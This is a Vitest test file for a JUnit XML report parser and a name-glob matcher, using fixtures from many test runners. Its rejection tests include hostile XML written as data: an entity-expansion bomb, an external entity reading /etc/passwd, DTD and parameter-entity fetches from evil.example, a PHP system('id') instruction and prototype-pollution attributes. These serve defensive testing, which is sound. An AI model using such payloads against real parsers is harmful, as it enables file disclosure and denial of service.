import { readFileSync } from 'node:fs'
import { describe, expect, test } from 'vitest'
import { nameGlob } from '../../../src/read/glob.ts'
import { namesOf, parseJUnit } from '../../../src/read/junit.ts'

/** Real reports of one small suite about an opt-out, by the runner that wrote them. */
describe('a report is read as its runner means it', () => {
  test.each([
    [
      'surefire',
      [
        'stopsTheProcessing passed',
        'tellsTheVendor failed: Connection refused',
        'takesAnAgent was skipped',
        'confirmsByMail passed',
        'asksForNoAccount passed',
      ],
    ],
    [
      'pytest',
      [
        'test_stops passed',
        'test_tells failed: assert 202 == 500',
        'test_agent was skipped',
        'test_expected was skipped',
        'test_channel[form] passed',
        'test_channel[mail/post] passed',
      ],
    ],
    [
      'jest',
      [
        'opt-out stops the processing passed',
        'opt-out tells the vendor failed',
        'opt-out takes an agent was skipped',
        'opt-out asks for no account passed',
      ],
    ],
    [
      'vitest',
      [
        'opt-out > stops the processing passed',
        'opt-out > tells the vendor failed: expected 202 to be 500 // Object.is equality',
        'opt-out > takes an agent was skipped',
        'opt-out > confirms by mail was skipped',
      ],
    ],
    [
      'node',
      [
        'stops the processing passed',
        'tells the vendor failed: 202 == 500',
        'takes an agent was skipped',
        'confirms by mail is a todo',
        'asks for no account & no &quot;login&quot; passed',
        'appeal is read by a person passed',
      ],
    ],
    [
      'mocha',
      [
        'opt-out stops the processing passed',
        'opt-out tells the vendor failed: expected 202 to equal 500',
        'opt-out takes an agent was skipped',
      ],
    ],
    [
      'go',
      [
        'TestOptOut/tells_the_vendor failed: Failed',
        'TestOptOut/takes_an_agent was skipped',
        'TestOptOut/stops_the_processing passed',
        'TestOptOut/asks_for_no_account passed',
      ],
    ],
    [
      'phpunit',
      [
        'testStopsTheProcessing passed',
        'testTellsTheVendor failed',
        'testTakesAnAgent was skipped',
        'testChannel with data set "form" passed',
      ],
    ],
    [
      'nextest',
      [
        'stops_the_processing passed',
        "tells_the_vendor failed: thread 'tells_the_vendor' panicked at tests/opt_out.rs:20",
        'confirms_by_mail passed',
        'asks_for_no_account passed',
      ],
    ],
    [
      'playwright',
      [
        'opt-out › stops the processing passed',
        'opt-out › tells the vendor failed: opt-out.spec.ts:14:3 tells the vendor',
        'opt-out › takes an agent was skipped',
      ],
    ],
    [
      'googletest',
      [
        'StopsTheProcessing passed',
        'TellsTheVendor failed: opt_out_test.cc:20 Expected equality of these values: 202 5…',
        'TakesAnAgent has the result `skipped`',
        'DISABLED_ConfirmsByMail has the status `notrun`',
      ],
    ],
    [
      'ctest',
      [
        'optout.stops passed',
        'optout.tells has the status `fail`',
        'optout.agent has the status `notrun`',
        'optout.off has the status `disabled`',
        'optout.skip has the status `notrun`',
      ],
    ],
  ])('%s', (runner, cases) => {
    const results = parseJUnit(readFileSync(`test/fixtures/junit/${runner}.xml`))
    expect(results.ok && results.cases.map(({ name, because }) => `${name} ${because}`)).toEqual(cases)
  })
})

describe('a case', () => {
  test.each([
    ['passes when nothing speaks against it', '<testcase name="a"/>', 'passed'],
    [
      'passes with output',
      '<testcase name="a"><properties/><system-out>x</system-out><system-err/></testcase>',
      'passed',
    ],
    ['passes when a later run of it did', '<testcase name="a"><flakyFailure/><flakyError/></testcase>', 'passed'],
    ['fails with a failure', '<testcase name="a"><failure/></testcase>', 'failed'],
    ['fails with an error', '<testcase name="a"><error/></testcase>', 'failed'],
    ['fails when every run of it did', '<testcase name="a"><rerunFailure/></testcase>', 'failed'],
    ['fails by its status', '<testcase name="a" status="Failed"/>', 'failed'],
    ['fails although it is skipped too', '<testcase name="a"><skipped/><failure/></testcase>', 'failed'],
    ['is skipped', '<testcase name="a"><skipped/></testcase>', 'skipped'],
    ['is skipped by its status', '<testcase name="a" status="not-run"/>', 'skipped'],
    ['is skipped by a mark', '<testcase name="a" disabled="true"/>', 'skipped'],
    ['is skipped when it was not executed', '<testcase name="a" executed="False"/>', 'skipped'],
    ['is a todo', '<testcase name="a" result="todo"/>', 'skipped'],
    ['fails with its suite', '<testcase name="a"/><error message="out of memory"/>', 'failed'],
    ['is skipped with its suite', '<testcase name="a"/><skipped/>', 'skipped'],
    ['is unclear with a word that nobody knows', '<testcase name="a" status="purple"/>', 'unclear'],
    ['is unclear with an element that nobody knows', '<testcase name="a"><warning/></testcase>', 'unclear'],
  ])('%s', (_, text, outcome) => {
    const results = parse(`<testsuite name="s">${text}</testsuite>`)
    expect(results.ok && results.cases.map((each) => each.outcome)).toEqual([outcome])
  })

  test('fails with the suite around its suite', () => {
    const results = parse(
      '<testsuites><testsuite><testsuite><testcase name="a"/></testsuite><error/></testsuite></testsuites>',
    )
    expect(results.ok && results.cases[0]).toMatchObject({ outcome: 'failed', because: 'is in a suite that failed' })
  })

  test('counts only in a suite: not in the output of another, and not in another case', () => {
    const results = parse(
      '<testsuite><testcase name="a"><system-out><testcase name="b"/></system-out><testcase name="c"/></testcase></testsuite>',
    )
    expect(results.ok && results.cases.map(({ name, outcome }) => [name, outcome])).toEqual([['a', 'unclear']])
  })

  test('has its line, and the time of its suite', () => {
    const results = parse(
      '<testsuites>\n<testsuite timestamp="2027-02-01T09:14:41Z">\n<testcase\n  name="a"\n/>\n</testsuite>\n</testsuites>',
    )
    expect(results.ok && results.cases[0]).toMatchObject({
      line: 3,
      timestamp: { text: '2027-02-01T09:14:41Z', line: 2 },
    })
  })

  test.each([
    ['its name', 'stops the processing'],
    ['a glob', 'stops *'],
    ['its class', 'OptOut.stops*'],
    ['its suite', 'form > stops *'],
    ['all its suites', 'advance > opt-out > form > stops the processing'],
    ['any letters, a slash among them', '*stops*'],
  ])('is called by %s', (_, pattern) => {
    expect(called(pattern, 'stops the processing')).toBe(true)
  })

  test.each([
    ['TestOptOut/*', 'TestOptOut/agent/mail', true],
    ['test_channel[form]', 'test_channel[form]', true],
    ['test_channel\\[*', 'test_channel[form]', true],
    ['opt-out', 'opt-out works', false],
    ['!opt-out', 'agent', false],
    ['#opt-out', '#opt-out', true],
    ['{a,b}', 'a', false],
    ['+(a)', 'aa', false],
    ['.', '.', true],
    ['*', '..', true],
    ['', 'opt-out', false],
  ])('the glob `%s` and the name `%s`: %s', (pattern, name, is) => {
    expect(nameGlob(pattern)(name)).toBe(is)
  })
})

const BOMB = `<!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, n) => `<!ENTITY lol${n + 1} "${`&lol${n || ''};`.repeat(10)}">`).join('')}]>`

describe('what is not plain XML is refused with its line', () => {
  const suite = (inside: string) => `<testsuite name="s">\n<testcase name="opt-out"/>\n${inside}\n</testsuite>`
  test.each([
    ['nothing', '', 1, /no element/],
    ['blanks', '\n\n', 1, /no element/],
    ['no XML', 'ok 1 - opt-out\n', 1, /not well-formed/],
    ['JSON', '{"testsuite": []}', 1, /not well-formed/],
    ['another root', '<?xml version="1.0"?>\n<html/>', 2, /root is `<html>`/],
    ['an entity bomb', `${BOMB}\n${suite('<system-out>&lol9;</system-out>')}`, 1, /document type/],
    ['an external entity', `<!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]>${suite('&x;')}`, 1, /document type/],
    ['an external document type', `\n<!DOCTYPE s SYSTEM "https://evil.example/s.dtd">${suite('')}`, 2, /document type/],
    [
      'a parameter entity',
      `<!DOCTYPE s [<!ENTITY % x SYSTEM "http://evil.example/x"> %x;]>${suite('')}`,
      1,
      /document type/,
    ],
    ['a document type inside', suite('<!DOCTYPE x>'), 3, /not well-formed|document type/],
    // The parser waits for the end of the quote, and finds that of the file.
    ['an entity outside a document type', suite('<!ENTITY x "y">'), 4, /declaration|not well-formed/],
    ['an entity that XML does not have', suite('&nbsp;'), 3, /not well-formed/],
    [
      'an entity that a table in JavaScript inherits',
      suite('<system-out>&constructor;</system-out>'),
      3,
      /not well-formed/,
    ],
    ['an entity in other letters', suite('<system-out>&AMP;</system-out>'), 3, /not well-formed/],
    ['a character by a number that is none', suite('&#0;'), 3, /not well-formed/],
    [
      'a style sheet',
      `<?xml version="1.0"?>\n<?xml-stylesheet href="x.xsl"?>${suite('')}`,
      2,
      /processing instruction/,
    ],
    ['code', suite('<?php system("id") ?>'), 3, /processing instruction/],
    ['a declaration that does not come first', suite('<?xml version="1.0"?>'), 3, /processing instruction/],
    ['UTF-16 by its declaration', `<?xml version="1.0" encoding="UTF-16"?>${suite('')}`, 1, /encoding `UTF-16`/],
    ['UTF-7 by its declaration', `<?xml version="1.0" encoding="UTF-7"?>${suite('+ADw-')}`, 1, /encoding `UTF-7`/],
    ['a second root', `${suite('')}\n<testsuite/>`, 5, /second root/],
    ['text after the root', `${suite('')}\nok`, 5, /not well-formed/],
    ['text before the root', `ok\n${suite('')}`, 1, /not well-formed/],
    ['an element that nothing closes', '<testsuite>\n<testcase name="opt-out">\n</testsuite>', 3, /not well-formed/],
    ['a root that nothing closes', '<testsuite>\n<testcase name="opt-out"/>\n', 3, /not well-formed/],
    ['a comment that nothing closes', suite('<!-- x'), 4, /not well-formed/],
    ['a comment with two hyphens', suite('<!-- x -- y -->'), 3, /not well-formed/],
    ['CDATA that nothing closes', suite('<system-out><![CDATA[ x'), 4, /not well-formed/],
    ['CDATA in small letters', suite('<system-out><![cdata[ x ]]></system-out>'), 3, /not well-formed/],
    ['CDATA outside the root', `${suite('')}\n<![CDATA[x]]>`, 5, /not well-formed/],
    ['an end of CDATA that never began', suite('<system-out>]]></system-out>'), 3, /not well-formed/],
    ['an attribute twice', suite('<testcase name="x" name="opt-out"/>'), 3, /an attribute twice/],
    ['an attribute without quotes', suite('<testcase name=x/>'), 3, /not well-formed/],
    ['an attribute without a value', suite('<testcase name/>'), 3, /not well-formed/],
    ['a `<` in an attribute', suite('<testcase name="a<b"/>'), 3, /not written as one/],
    ['a blank before a name', suite('< testcase name="x"/>'), 3, /not written as one/],
    ['a blank in a closing tag', suite('<system-out></ system-out>'), 3, /not written as one/],
    ['attributes with no blank between', suite('<testcase name="x"status="run"/>'), 3, /not well-formed/],
    [
      'an attribute that is a method of objects',
      suite('<testcase hasOwnProperty="x" name="y"/>'),
      3,
      /not well-formed/,
    ],
    ['an attribute that is the prototype', suite('<testcase __proto__="x" name="y"/>'), 3, /twice|not well-formed/],
    ['a control character', suite('<system-out>\u001b[31m</system-out>'), 3, /U\+001B/],
    ['nesting', `<testsuite>${'<a>'.repeat(100)}${'</a>'.repeat(100)}</testsuite>`, 1, /more than 64 deep/],
    ['a long name', suite(`<testcase name="${'x'.repeat(5_000)}"/>`), 3, /more than 2000 characters/],
    [
      'long names of suites inside one another',
      `<testsuite>\n${`<testsuite name="${'x'.repeat(150)}">`.repeat(20)}`,
      2,
      /more than 2000 characters/,
    ],
    ['a long tag', suite(`<property name="p" value="${'x'.repeat(300_000)}"/>`), 3, /not well-formed|a tag of/],
    ['too many cases', `<testsuite>${'<testcase name="x"/>'.repeat(50_001)}</testsuite>`, 1, /more than 50000/],
  ])('%s', (_, text, line, says) => {
    const results = parse(text)
    if (results.ok) throw new Error('it was taken')
    expect(results.because).toMatch(says)
    expect(results.line).toBe(line)
  })

  test.each([
    ['binary', new Uint8Array([0x50, 0x4b, 0x03, 0x04, 0, 0, 0, 0]), /binary/],
    ['UTF-16', Buffer.from('<testsuite/>', 'utf16le'), /UTF-16/],
    ['Latin-1', Buffer.from('<testsuite name="Rücktritt"/>', 'latin1'), /UTF-8/],
    ['a NUL', Buffer.from('<testsuite>\0</testsuite>'), /binary/],
  ])('%s', (_, bytes, says) => {
    expect(parseJUnit(bytes)).toMatchObject({ ok: false, because: expect.stringMatching(says) })
  })

  test.each([
    ['a byte order mark', '\ufeff<testsuite><testcase name="a"/></testsuite>'],
    ['every reference that XML has', '<testsuite><testcase name="&lt;&gt;&amp;&quot;&apos;&#65;&#x41;"/></testsuite>'],
    ['a comment over nothing', '<testsuite><!----><testcase name="a"/><!-- & ]]> --></testsuite>\n<!-- end -->\n'],
    [
      'markup in CDATA',
      '<testsuite><testcase name="a"><system-out><![CDATA[&x; <a> ]] ]]></system-out></testcase></testsuite>',
    ],
    [
      'carriage returns',
      '<?xml version="1.0" encoding=\'utf-8\' standalone="yes" ?>\r\n<testsuite\r\n>\r\n<testcase name = \'a\' /></testsuite >',
    ],
    [
      'a value of 50,000 characters',
      `<testsuite><testcase name="a"><system-out x="${'y'.repeat(50_000)}"/></testcase></testsuite>`,
    ],
  ])('%s is plain XML', (_, text) => {
    const results = parse(text)
    expect(results.ok && results.cases.map(({ outcome }) => outcome)).toEqual(['passed'])
  })
})

function parse(text: string) {
  return parseJUnit(new TextEncoder().encode(text))
}

function called(pattern: string, name: string): boolean {
  const results = parse(
    `<testsuites name="advance"><testsuite name="opt-out"><testsuite name="form"><testcase name="${name}" classname="OptOut"/></testsuite></testsuite></testsuites>`,
  )
  const matches = nameGlob(pattern)
  return results.ok && results.cases.some((each) => namesOf(each).some(matches))
}
